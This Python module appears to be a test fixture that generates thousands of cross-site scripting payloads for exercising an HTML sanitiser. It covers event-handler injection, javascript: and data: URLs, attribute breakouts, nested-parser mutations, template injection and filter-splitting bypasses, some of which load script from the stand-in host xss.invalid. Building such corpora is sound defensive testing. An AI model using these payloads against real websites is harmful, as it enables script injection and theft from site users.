"""Text that is meant to do harm: scripts in every disguise that we could think of, put together here.

Whatever of it runs calls ``__ran`` with its own number, or asks :data:`ELSEWHERE` for something.
"""

import base64
import html
import random
from collections.abc import Callable, Iterator, Sequence
from typing import Any
from urllib.parse import quote

ELSEWHERE = "xss.invalid"
SEED = 20_091_015
ENOUGH = 5_000
_Make = Callable[[int], str]

_PREFIXES = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "]]>",
    "</style>",
    "</select>",
    "\n\n> ",
    "*",
    "**x** ",
)
"""What might end the place where the text stands."""
_GAPS = (" ", "/", "\t", "\n", "\x0c", "\r\n", " / ", "\u00a0")
_QUOTES = ('"', "'", "", "`", "&quot;")
_TAGS = (
    *("img", "svg", "body", "iframe", "video", "audio", "details", "input", "select", "marquee", "object", "embed"),
    *(
        "math",
        "form",
        "button",
        "style",
        "link",
        "base",
        "table",
        "a",
        "p",
        "div",
        "x-y",
        "blockquote",
        "strong",
        "em",
        "br",
    ),
    *("IMG", "sVg", "iMg\u0131", "svg:svg", "img\x00", "template", "keygen", "portal", "bdi", "article", "textarea"),
)
_EVENTS = (
    *("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onbegin"),
    *(
        "onclick",
        "oncanplay",
        "onstart",
        "onwheel",
        "oncopy",
        "onbeforematch",
        "onscrollend",
        "ONERROR",
        "onErRoR",
        "on\terror",
    ),
)
_WITH = (
    "src=x",
    "autofocus tabindex=0",
    "open",
    "style=animation:x",
    "src=//xss.invalid/{n}",
    "href=x",
    "id=x name=y",
    "",
)
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
        "javascript&colon;",
    ),
    *("&#106;avascript:", "&#x6a;avascript:", "javascript:// \n", "javascript:%0a", "vbscript:", "\u200bjavascript:"),
    *("feed:javascript:", "view-source:javascript:", "jar:javascript:", "javascript\u0000:", "ｊavascript:"),
)
_HOLDERS = (
    *(
        "a href",
        "iframe src",
        "form action",
        "button formaction",
        "object data",
        "embed src",
        "svg xlink:href",
        "base href",
    ),
    *(
        "link rel=stylesheet href",
        "meta http-equiv=refresh content",
        "body background",
        "video poster",
        "use href",
        "a ping",
    ),
    *(
        "area href",
        "math href",
        "input type=image src",
        "img srcset",
        "script src",
        "iframe srcdoc",
        "source src",
        "track src",
    ),
)
_CONTAINERS = (
    *(
        "svg",
        "math",
        "noscript",
        "style",
        "table",
        "select",
        "template",
        "textarea",
        "title",
        "xmp",
        "noembed",
        "noframes",
    ),
    *(
        "iframe",
        "plaintext",
        "mtext",
        "annotation-xml",
        "desc",
        "foreignObject",
        "option",
        "colgroup",
        "caption",
        "button",
    ),
)
_LINKS = (
    "https://a.example/",
    "http://a.example?",
    "https://a.example/(",
    "HTTPS://a.example/#",
    "https://a.example:80/*",
)
_TEMPLATES = (
    "{{{{{0}}}}}",
    "{{% {0} %}}",
    "${{{0}}}",
    "<%={0}%>",
    "#{{{0}}}",
    "[[{0}]]",
    "{{{{constructor.constructor('{0}')()}}}}",
)


def _run(n: int) -> str:
    return f"__ran({n})"


def _codes(text: str) -> str:
    return ",".join(str(ord(letter)) for letter in text)


_SCRIPTS: tuple[_Make, ...] = (
    _run,
    lambda n: f"top.{_run(n)}",
    lambda n: f"\\u005f_ran({n})",
    lambda n: f"self['__ran']({n})",
    lambda n: f"eval(atob('{base64.b64encode(_run(n).encode()).decode()}'))",
    lambda n: f"eval(String.fromCharCode({_codes(_run(n))}))",
    lambda n: "".join(f"&#{ord(letter)};" for letter in _run(n)),
    lambda n: "".join(f"&#x{ord(letter):x}" for letter in _run(n)),
    lambda n: quote(_run(n), safe=""),
    lambda n: f"import('//{ELSEWHERE}/{n}')",
    lambda n: f"fetch('//{ELSEWHERE}/{n}')",
    lambda n: f"__ran`{n}`",
    lambda n: f"alert({n})",
)


def payloads(count: int = ENOUGH + 200) -> list[str]:
    """So many attacks, no two built alike, as many of each family; the same ones each time."""
    chance = random.Random(SEED)
    found: list[str] = []
    built: set[tuple[object, ...]] = set()
    while len(found) < count:
        for make, *choices in _FAMILIES:
            chosen = tuple(chance.choice(some) for some in choices)
            if (make, *chosen) not in built:
                built.add((make, *chosen))
                found.append(make(len(found), *chosen))
    return found[:count]


def _tag_with_event(n: int, prefix: str, tag: str, gap: str, more: str, event: str, quoting: str, script: _Make) -> str:
    return f"{prefix}<{tag}{gap}{more.format(n=n)}{gap}{event}={quoting}{script(n)}{quoting}>"


def _script_element(n: int, prefix: str, opening: str, script: _Make, closing: str) -> str:
    return f"{prefix}{opening.format(n=n)}{script(n)}{closing}"


def _address_in_tag(n: int, prefix: str, holder: str, quoting: str, scheme: str, script: _Make) -> str:
    name = holder.partition(" ")[0]
    return f"{prefix}<{holder}={quoting}{scheme}{script(n)}{quoting}>x</{name}>"


def _data_address(n: int, prefix: str, holder: str, kind: str, quoting: str) -> str:
    inner = f"<script>{_run(n)}</script>"
    coded = base64.b64encode(inner.encode()).decode()
    value = {"plain": f"data:text/html,{inner}", "coded": f"data:text/html;base64,{coded}"}.get(
        kind, html.escape(inner)
    )
    return f"{prefix}<{holder}={quoting}{value}{quoting}>x"


def _out_of_attribute(n: int, quoting: str, gap: str, event: str, script: _Make, end: str) -> str:
    return f"x{quoting}{gap}{event}={script(n)}{gap}autofocus{gap}x={end}{quoting}"


def _nested(n: int, outer: str, inner: str, script: _Make, comment: str) -> str:
    """Parsed a second time, such a thing may be another one than it was the first time."""
    return f"<{outer}><{inner}>{comment}</{outer}><img src=x onerror={script(n)}></{inner}>"


def _in_link(n: int, link: str, quoting: str, gap: str, event: str, script: _Make) -> str:
    return f"{link}{quoting}{gap}{event}={script(n)}"


def _marked(n: int, mark: str, tag: str, event: str, script: _Make) -> str:
    return f"{mark}<{tag} {event}={script(n)}>{mark} [x](javascript:{script(n)}) {mark}\n> {mark}<{tag}>"


def _in_template(n: int, template: str, script: _Make, prefix: str) -> str:
    return prefix + template.format(script(n))


def _split(n: int, inner: str, script: _Make, prefix: str) -> str:
    """What a filter that takes something out once leaves behind."""
    middle = len("script") // 2
    return f"{prefix}<{'script'[:middle]}{inner}{'script'[middle:]}>{script(n)}</scr{inner}ipt>"


def _bare(n: int, scheme: str, script: _Make, tail: str) -> str:
    return f"{scheme}{script(n)}{tail}"


_FAMILIES: tuple[tuple[Any, ...], ...] = (
    (_tag_with_event, _PREFIXES[:5], _TAGS, _GAPS[:5], _WITH[:5], _EVENTS[:9], _QUOTES[:3], _SCRIPTS[:2]),
    (_tag_with_event, _PREFIXES, _TAGS[:6], _GAPS, _WITH[:2], _EVENTS[8:], _QUOTES[2:], _SCRIPTS),
    (
        _script_element,
        _PREFIXES,
        (
            "<script>",
            "<SCRIPT >",
            "<script/x>",
            "<script\n>",
            "<script type=module>",
            "<script src=//xss.invalid/{n}>",
            "<<script>",
        ),
        _SCRIPTS,
        ("</script>", "</script ", "", "//", "<!--", "</sCrIpT\t>"),
    ),
    (_address_in_tag, _PREFIXES[:4], _HOLDERS, _QUOTES, _SCHEMES, _SCRIPTS[:4]),
    (_data_address, _PREFIXES, _HOLDERS, ("plain", "coded", "escaped"), _QUOTES),
    (_out_of_attribute, ('"', "'", "`", "&#34;", "%22", '\\"'), _GAPS, _EVENTS, _SCRIPTS[:4], ("", "\\", "<")),
    (_nested, _CONTAINERS, _CONTAINERS, _SCRIPTS[:3], ("", "<!--", "<![CDATA[", "<a title='", "&lt;")),
    (_in_link, _LINKS, _QUOTES, _GAPS, _EVENTS, _SCRIPTS[:3]),
    (_marked, ("*", "**", "> ", "`", "***", "_"), _TAGS[:9], _EVENTS[:4], _SCRIPTS[:4]),
    (_in_template, _TEMPLATES, _SCRIPTS, _PREFIXES),
    (_split, ("<script>", "<b>", "\x00", "\u200b", "<!---->", "\\", "\u00ad", "javascript:"), _SCRIPTS, _PREFIXES),
    (_bare, _SCHEMES, _SCRIPTS, ("", "//.example", "@a.example", "?https://a.example")),
)
"""How each is put together, and of what."""


def sendable(text: str) -> str:
    """``text`` as a browser would send it: half of a pair has no form in UTF-8."""
    return text.encode("utf-8", "replace").decode()


def packed(strings: Sequence[str], most: int, between: str = "\n") -> Iterator[str]:
    """``strings`` in as few texts of ``most`` characters as there can be; one that is longer is left out."""
    text = ""
    for one in strings:
        if len(one) > most:
            continue
        if text and len(text) + len(between) + len(one) > most:
            yield text
            text = ""
        text = f"{text}{between}{one}" if text else one
    if text:
        yield text
